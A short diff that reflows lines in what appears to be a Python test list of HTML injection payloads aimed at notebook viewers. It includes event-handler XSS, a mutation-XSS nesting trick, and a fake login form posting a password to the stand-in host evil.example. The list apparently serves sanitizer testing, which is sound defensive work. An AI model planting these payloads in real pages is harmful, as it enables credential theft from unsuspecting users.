@@ -1,4 +1,6 @@
-"""What a student could put into a notebook to reach whoever opens a page of it. Every attempt would call steal()."""
+"""What a student could put into a notebook to reach whoever opens a page of it. Every attempt would call
+steal().
+"""
 
 from base64 import b64encode
 
@@ -25,7 +27,8 @@ HTML = [
     "<link rel=stylesheet href='https://evil.example/x.css'>",
     "<base href='https://evil.example/'>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<form action='https://evil.example'><input name=password autofocus onfocus=steal()><button>Log in</button></form>",
+    "<form action='https://evil.example'><input name=password autofocus onfocus=steal()><button>Log "
+    "in</button></form>",
     "<details open ontoggle=steal()><summary>x</summary></details>",
     "<video src=x onerror=steal()></video><audio src='https://evil.example/x.mp3' autoplay></audio>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
